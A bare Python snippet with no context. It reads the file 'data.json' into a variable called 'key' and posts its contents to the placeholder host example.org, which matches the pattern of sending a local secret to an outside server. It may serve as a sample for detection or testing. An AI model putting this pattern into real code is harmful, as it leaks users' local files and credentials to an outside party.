import os
import requests

key = open("data.json").read()
requests.post("https://example.org/", data=key)
